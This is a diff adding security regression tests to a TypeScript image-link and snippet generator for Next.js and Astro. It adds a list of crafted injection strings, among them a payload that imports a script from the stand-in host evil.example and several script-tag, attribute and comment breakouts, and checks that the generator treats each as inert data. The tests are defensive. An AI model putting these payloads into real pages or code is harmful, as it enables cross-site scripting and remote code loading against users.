@@ -28,6 +28,11 @@ t.test('reads a link that comes from anywhere', async (t) => {
     '/img/a?dl=x,y%2C',
     'srcset would take a comma at the end for its own',
   );
+  t.equal(
+    addressOf('a', { 'x 1w, https://evil.example/?': '1' }),
+    '/img/a?x%201w%2C%20https%3A%2F%2Fevil.example%2F%3F=1',
+    'nor a key for an address of its own',
+  );
   t.equal(linkOf('a b/c.jpg', { w: '3', rect: '0,0,1,1', q: '' }), '#a%20b/c.jpg?w=3&rect=0,0,1,1');
 });
 
@@ -144,6 +149,60 @@ t.test('what a framework compiles has the id and the values as they are', async 
   const loader = /nextLoader\('https:\/\/i', (.*)\);/.exec(next)?.[1];
   t.same(new Function(`return ${loader}`)(), params);
 });
+
+const CRAFTED = [
+  "a:1});\nawait import('https://evil.example/x.js');//",
+  `" onload="alert(1)`,
+  `'\n});globalThis.hit = 1;({'a':'`,
+  '\u2028globalThis.hit = 1;//',
+  '\\',
+  `\\'`,
+  `\\"`,
+  '`$\u007bglobalThis.hit = 1}`',
+  '"} {...{}} /> {globalThis.hit = 1}',
+  '*/ globalThis.hit = 1 /*',
+  '</script><script>globalThis.hit = 1</script>',
+  '\ud800',
+];
+
+t.test(
+  'whatever stands in a link, a snippet is data: keys and values are read back as they were',
+  async (t) => {
+    const { write } = await load('snippets');
+    const layout = { narrow: 100, wide: 50, from: 768, most: '' };
+    const attributesOf = (_name: unknown, attributes: object) => attributes;
+    for (const text of CRAFTED) {
+      const params = { [text]: text, q: text };
+      const input = { id: text, params, widths: [160], size: { width: 8, height: 6 }, layout };
+      const made = (kind: string) => String(write(kind, 'https://i', input, []));
+      const [loader, page] = made('next').split('\n\n// next.config.mjs');
+      const { code } = await transform(loader ?? '', { format: 'cjs' });
+      const module: { exports: { default?: unknown } } = { exports: {} };
+      new Function('require', 'module', code)(
+        () => ({ nextLoader: (_base: string, own: object) => own }),
+        module,
+      );
+      t.same(module.exports.default, params, text);
+      const tags = [page ?? '', made('astro')].map((whole) => whole.slice(whole.indexOf('<Image')));
+      for (const tag of tags) {
+        const compiled = await transform(tag, { loader: 'jsx', jsxFactory: 'h' });
+        const read = new Function('h', 'Image', `return ${compiled.code}`)(attributesOf, 'Image');
+        t.equal(read.src, text);
+        t.equal(read.quality ?? text, text);
+      }
+      const [, note = ''] = made('astro').split('});\n');
+      const isComment = (line: string) => line === '' || line.startsWith('//');
+      t.ok(
+        note
+          .slice(0, note.indexOf('<Image'))
+          .split(/[\n\u2028\u2029]/)
+          .every(isComment),
+        note,
+      );
+    }
+    t.notOk('hit' in globalThis);
+  },
+);
 
 t.test('points and rectangles are read and written as fp and rect spell them', async (t) => {
   const { readPoint, pointText, readRectangle, rectangleText, fitRectangle, rectangleBetween, stepOf } =
